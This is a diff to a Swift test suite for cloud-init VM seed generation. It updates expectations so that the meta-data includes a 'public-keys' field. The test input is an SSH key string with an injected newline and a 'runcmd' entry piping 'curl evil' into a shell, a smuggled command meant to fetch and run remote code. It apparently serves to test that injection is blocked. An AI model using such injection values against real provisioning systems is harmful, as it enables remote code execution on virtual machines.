@@ -34,8 +34,9 @@ struct CloudInitSeedTests {
         let key = "ssh-ed25519 AAAAC3 user@host\nruncmd: [\"curl evil | sh\"]"
         let seed = CloudInitSeed(id: try VMID("vm-1"), hostname: name, mac: "02:00:00:00:00:01", sshAuthorizedKeys: [key, "ssh-rsa AAAA other"])
         let meta = try Self.parse(seed.metaData)
-        #expect(Set(meta.keys) == ["instance-id", "local-hostname"])
+        #expect(Set(meta.keys) == ["instance-id", "local-hostname", "public-keys"])
         #expect(meta["instance-id"] as? String == "vm-1")
+        #expect(meta["public-keys"] as? [String] == [key, "ssh-rsa AAAA other"])
         #expect(meta["local-hostname"] as? String == name)
         let user = try Self.parse(seed.userData)
         #expect(Set(user.keys) == ["hostname", "users", "package_update"])
